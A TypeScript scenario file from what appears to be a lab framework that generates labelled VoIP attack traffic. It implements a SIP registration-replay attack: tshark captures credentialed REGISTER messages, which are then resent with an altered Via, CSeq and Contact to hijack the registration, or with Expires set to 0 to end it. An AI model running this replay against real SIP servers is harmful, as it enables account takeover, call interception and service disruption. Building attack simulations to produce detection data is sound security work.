/** A16 by replay: a REGISTER with its credentials, read off the wire, is sent again; the digest does not cover the Contact (RFC 7616 §5.5). */
import { headerOf, readMessage, uriOf, userOf } from '../agents/message.ts';
import type { Account, Intensity, Lab, Scenario } from '../scenario.ts';
import { Actor, unlabelled } from './senders/actor.ts';
import { enrol, spareAccount } from './senders/dial.ts';

const SNIFF = 7;

/** A tap at the registrar is the ear; the answer shows whether the credentials were taken a second time. */
export const registrationReplay: Scenario = {
  name: 'registration-replay',
  title: 'Sniffed REGISTERs are sent again, with another Contact or to end the registration',
  attack: 'A16',
  intensities: [
    { name: '3 accounts, own contact', value: 3 },
    { name: '2 accounts, ended', value: 2 },
  ],
  site: { phones: 6 },
  needs: ['tshark'],
  proof: 'hashes',
  run,
};

async function run(lab: Lab, intensity: Intensity): Promise<void> {
  const victims = Array.from({ length: intensity.value }, (_, i) => spareAccount(lab, i));
  const sniffed = sniff(lab);
  await lab.sleep(3_000); // tshark needs a moment to start
  const phones = await Promise.all(victims.map((account) => register(lab, account)));
  const payloads = (await sniffed).filter((text) => victims.some(({ user }) => text.includes(`sip:${user}@`)));
  const campaign = lab.campaign({
    attack: 'A16',
    classes: ['hijack', 'account-takeover'],
    stage: 'abuse',
    intensity: intensity.name,
    targets: victims.map(({ user, domain }) => `${user}@${domain}`),
  });
  const actor = await Actor.open(lab, campaign, 'attack');
  let accepted = 0;
  for (const payload of payloads) {
    await lab.sleep(lab.random.exponential(500));
    if (await replay(lab, actor, payload, intensity.name.endsWith('own contact'))) accepted++;
  }
  campaign.end(accepted > 0 ? 'succeeded' : 'failed', { attackers: [actor.address] });
  for (const one of [actor, ...phones]) one.close();
}

/** REGISTERs with credentials that come to the registrar within the next seconds, as text. */
async function sniff(lab: Lab): Promise<string[]> {
  const filter = 'sip.Method == "REGISTER" && sip.Authorization';
  const command = ['tshark', '-l', '-n', '-i', 'eth0', '-f', 'udp', '-d', `udp.port==${lab.site.proxy.port},sip`];
  const { output } = await lab.tool('site', [...command, '-Y', filter, '-T', 'fields', '-e', 'udp.payload'], SNIFF);
  const lines = output.split('\n').filter((line) => /^[0-9a-f:]{100,}$/.test(line));
  return lines.map((line) => Buffer.from(line.replaceAll(':', ''), 'hex').toString('latin1'));
}

async function register(lab: Lab, account: Account): Promise<Actor> {
  const phone = await Actor.open(lab, unlabelled, 'office');
  await enrol(phone, lab, account, 600);
  return phone;
}

/** Sends it again with a Via of its own, so that the answer comes back; true if it was accepted. */
async function replay(lab: Lab, actor: Actor, text: string, ownContact: boolean): Promise<boolean> {
  const message = readMessage(Buffer.from(text, 'latin1'));
  if (message === undefined) return false;
  const branch = actor.branch();
  const kept = text.replace(/^(?:via|v)\s*:.*\r\n/gim, '');
  const start = kept.indexOf('\r\n') + 2;
  const via = `Via: SIP/2.0/UDP ${actor.address}:${actor.port};branch=${branch};rport\r\n`;
  const rest = later(kept.slice(start));
  const moved =
    kept.slice(0, start) + via + (ownContact ? withContact(rest, actor.contact(userOf(uriOf(headerOf(message, 'to'))))) : ended(rest));
  const answer = await actor.deliver(Buffer.from(moved, 'latin1'), branch, lab.site.proxy, headerOf(message, 'call-id'));
  return answer?.status === 200;
}

/** The next CSeq: a registrar ignores what it has seen. The digest covers neither this nor the following (RFC 7616 §3.4.3). */
function later(fields: string): string {
  return fields.replace(/^cseq\s*:\s*(\d+)/im, (_, number: string) => `CSeq: ${Number(number) + 1}`);
}

function withContact(fields: string, contact: string): string {
  return fields.replace(/^(contact|m)\s*:.*$/im, `$1: ${contact}`);
}

/** The registration is to last no second longer. */
function ended(fields: string): string {
  return fields.replace(/^expires\s*:.*$/im, 'Expires: 0').replace(/;\s*expires=\d+/i, ';expires=0');
}
